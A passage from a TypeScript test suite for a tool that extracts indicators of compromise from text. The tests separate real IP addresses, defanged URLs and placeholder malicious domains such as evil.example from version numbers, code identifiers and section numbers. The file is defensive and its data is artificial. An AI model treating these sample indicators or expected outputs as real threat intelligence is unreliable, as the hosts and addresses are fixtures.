    [`urn:btih:${SHA1} ETag: "${SHA1}"`],
    ['self.bg self.invalid process.env.CI Browser.CHROME colors.foo'],
    ['import importlib.abc\nfrom package.lexers.web import Lexer\nusing System.Data'],
    ['2.5.4.3 2.5.29.37 1.3.6.1 1.3.101.112 0.7.100.3 list[0::2] list[1::2] us-west-2::/path'],
    // Titles of sections, versions after the names of systems, in ranges, of packages, and in the names of products (CPE).
    ['1.1.1.4 Section Title\n## 3.2.1.1. Introduction to parsing\nFigure 1.2.3.4 shows'],
    ['FortiOS 7.0.1.2, ~1.2.3.4, >=1.2.3.4, package@1.2.3.4, @scope/package@1.2.3.4'],
    ['cpe:2.3:a:vendor:product:1.2.3.4:*:*:* cpe:/o:vendor:system:9.1.2.3'],
    ['upgrade from 1.2.3.4 to version 1.2.3.5, Oracle 12.2.0.1, app_1.2.3.4_amd64.deb'],
    ['"version_name":"1.0.2.94" versionNumber=1.2.3.4 sections 8.2.4.44 and on'],
    ['the version is 10.1.2.3; AssemblyVersion("1.0.0.0"); Step 1.2.3.4; item 3.2.1.1'],
    // Not finished, though the URL Standard reads an address from it.
    ['http://192.168.1 http://1.2.3/'],
    ['yes.no true.so p.m.in the end of line.Next line a.name b.id'],
    // Members of objects, selectors, packages, and what a name of a variable ends in.
    ['button.click cluster.fit hello.world my.variable.name conn.host local.name module.vpc.id'],
    ['obj?.prop.id a.link:hover data.aws_ami.id MARKING_COLORS.red'],
    ['java.net kotlin.io org.example.commons.io socket.io foo.bar foo.pl'],
    ['i=t.next(); e.ch===f.ch, s.data[i]=1; x=a.to; cls.gl spec.name cookie.name'],
    ['as it.is written, and what.is this'],
    ['btn.is-active a.b.is-x main.py-like node.js-based'],
    // How dots are spoken of.
    ['we work AT the DOT office'],
    ['it should replace [.] by ., and detect {.} defanging'],
    ['S1100-456 the M1000 road'],
    // Lists of versions, other versions of a series, and what else is numbered.
    ['versions 13.1.5.1, 14.1.5.6 and 15.1.10.3 are affected; v2.10.0.1: as it was in 2.10.0.0'],
    ['Theorem 2.1.3.4 (Table 4.1.2.3) PCI DSS 8.3.1.2 EC 3.4.21.4 fixed in 8.5.1.8 and 8.6.1.2'],
    ["versions prior to 3.2.1.0, BIG-IP 16.1.4.1, gem 'rails', '~> 7.1.3.2'"],
    // Members, fields, files, subjects of papers, names of malware.
    ['$obj.Properties.Name list->item.id x = el.dataset.target; { it.name } .metadata.name'],
    ['dns.question.name data.aws_ami.ubuntu.id README.zh-CN.md [cs.CV]'],
    ['foo.py qux.sh util.go\nmain.c ltmain.sh\n'],
    ['JS.Redirector.id Adware.AndroidOS.Ewind.cc BehavesLike.Win32.Generic.cc'],
    ['Es ist gut.Im Haus, u.a.in Berlin'],
    ['Kapitel 2.4.1.3, Abschnitt 2.1.3.4, Nr. 5.3.1.2, sección 2.1.3.4, глава 1.2.3.4, 第1.2.3.4节'],
    ['folder.Name r.URL.Host IOType.EMAIL System.Sinks.Artifact.Id ticket.id row.entity.data'],
    ['key={folder.id} {tpl.name} `${rect.name}` reply.data ?? 0, reply.target?.id'],
    ['div.active.show { } .panel.live { }'],
    ['date.today() form.search="a" COLORS.one layout.events {id:s.box} org.example.Test'],
    ['for System Update to 2.3.0.0 or later, Product 6.2.10.0 and prior, IOS XE 17.16.1.4'],
    ['subprocess.run'],
    ['GmbH & Co.KG, Dr.med. Doe, 5.in the morning'],
    ['<t>1.2.3.4 Section Title</t> app1.2.3.4rc1 4.0.0.dev0'],
    // A filler that is glued to something.
    ['xaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'],
    ['Data.Text.IO ${project.build.directory} Text("a").font(.title).padding(.top, 4)'],
    ['Smith et al.in 2020, approx.to, and.then.we.go.to.the.place.in.it yes.no.so.it.is.am'],
  ]);

  test.each([
    // Addresses at the beginning of a line, and what is known of them.
    ['1.1.1.1 Resolver', '1.1.1.1'],
    ['9.9.9.10 Resolver of a foundation, which was seen. It answers.', '9.9.9.10'],
    ['198.51.100.4 Proxy', '198.51.100.4'],
    ['192.0.2.1 Gateway', '192.0.2.1'],
    // Programs and systems have small numbers, and so have few addresses.
    ['upgraded to 198.51.100.7', '198.51.100.7'],
    ['it fetches an update from 1.2.3.4', '1.2.3.4'],
    ['foo@1.2.3.4', 'foo@1.2.3.4'],
    ['host_192.0.2.1_log', '192.0.2.1'],
    ['http://127.0.0.1', 'http://127.0.0.1'],
    ['http://0x7f.1', 'http://127.0.0.1'],
    // Addresses behind versions.
    ['curl/7.88.1.2 198.51.100.7', '198.51.100.7'],
    ['version 1.2.3.4, seen at 1.3.2.4:443', '1.3.2.4'],
    ['found in 198.51.100.7', '198.51.100.7'],
    ['command and control 5.8.18.7', '5.8.18.7'],
    ['addresses found: 5.8.18.7', '5.8.18.7'],
    ['the name resolved to 5.8.18.7', '5.8.18.7'],
    ['t.me', 't.me'],
    ['(t.co)', 't.co'],
    ['<td>t.me</td>', 't.me'],
    ['is it x.com?', 'x.com'],
    ['secure-login.click', 'secure-login.click'],
    // A range of techniques.
    ['T1059-2', 'T1059'],
    ['hxxp://setup.zip/a', 'http://setup.zip/a'],
    ['[redacted].evil.example', 'evil.example'],
    ['we saw 8.to here', '8.to'],
    // Suffixes of hosts, hosts in titles, what is said of one.
    ['".evil.me", "@evil.example"', 'evil.me', 'evil.example'],
    ['Evil.Online evil.online(bad)', 'evil.online', 'evil.online'],
    // In a list of hosts and their ports, and in a resolver's rule.
    ['192.0.2.1:4581\nevil-stream.cc:4581\n192.0.2.2:4581', '192.0.2.1', 'evil-stream.cc', '192.0.2.2'],
    ['address=/evil.zip/0.0.0.0', 'evil.zip', '0.0.0.0'],
    ['server=/evil.now/bad.example/192.0.2.1', 'evil.now', 'bad.example', '192.0.2.1'],
    ['setup[.]zip', 'setup.zip'],
    ['resolve(evil.top)', 'evil.top'],
    // How people write a sample of a hash.
    ['aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa', 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'],
    // Phishing that wears a well-known beginning; lists of names below "name".
    ['com.bank.evil.xyz', 'com.bank.evil.xyz'],
    ['gov.in.evil.info', 'gov.in.evil.info'],
    ['microsoft.update.evil.com', 'microsoft.update.evil.com'],
    ['evilhost.name', 'evilhost.name'],
    ['1.123456.xyz', '1.123456.xyz'],
    // A sentence may begin with the word.
    ['From evil.online we learned', 'evil.online'],
    ['see http://evil.example . Then', 'http://evil.example'],
    ['setup.zip:8080', 'setup.zip'],
    ['www.setup.zip', 'www.setup.zip'],
    ['bins.sh:8080', 'bins.sh'],
    ['dropper.exe from evil.cc', 'evil.cc'],
    ['Evil.Com', 'evil.com'],
    ['EVIL.BAD.ONE', 'evil.bad.one'],
    ['EVIL.dev', 'evil.dev'],
    ['order.click', 'order.click'],
    // Resolvers mix capitals in.
    ['wWw.eViLhOsT.cOm', 'www.evilhost.com'],
    ['GET /check/203.0.113.50 HTTP/1.1', '203.0.113.50'],
    ['moved from 192.0.2.1 to 10.0.0.5', '192.0.2.1', '10.0.0.5'],
    ['evil(.example)', 'evil.example'],
    ['DstIp==192.0.2.1', '192.0.2.1'],
    ['evil [.] example', 'evil.example'],
    ['evilhost [.] me', 'evilhost.me'],
    ['ns1.evil.pl', 'ns1.evil.pl'],
    // Many hosts are in Poland; few files have two dots and end in "pl".
    ['mail.evil.pl', 'mail.evil.pl'],
  ])('%s has evidence', (text, ...values) => {
    expect(extract(text).map((found) => found.value)).toEqual(values);
  });
});

describe('overlaps', () => {
  test('the longest reading wins, and keeps the others', () => {
    const text = `see hxxps://evil[.]example/${MD5}/x?u=http://bad.example/`;
    const [found, ...others] = extract(text);
    expect(others).toEqual([]);
    expect(found?.value).toBe(`https://evil.example/${MD5}/x?u=http://bad.example/`);
    expect(text.slice(found?.start, found?.end)).toBe(text.slice(4));
    expect(found?.also?.map(({ type, value }) => `${type} ${value}`).sort()).toEqual([
      'domain bad.example',
      'domain evil.example',
      `md5 ${MD5}`,
      'url http://bad.example',
    ]);
  });

  test('a port goes with its host', () => {
    const found = extract('192.0.2.1:8080, evil.example:53, [2001:db8::1]:443');
    expect(found.map(({ port }) => port)).toEqual([8080, 53, 443]);
  });
});

describe('lists of endings', () => {
  const isDelegated = (ending: string) => parse(`a.${ending}`).isIcann === true;

  test.each([...FILE_ENDINGS])('".%s" is no top-level domain', (ending) => {
    expect(isDelegated(ending)).toBe(false);
  });

  test.each([...FILE_DOMAINS, ...FILE_OR_HOST_DOMAINS, ...MEMBER_DOMAINS, ...WORD_DOMAINS])(
    '".%s" is one',
    (ending) => {
      expect(isDelegated(ending)).toBe(true);
    },
  );
});
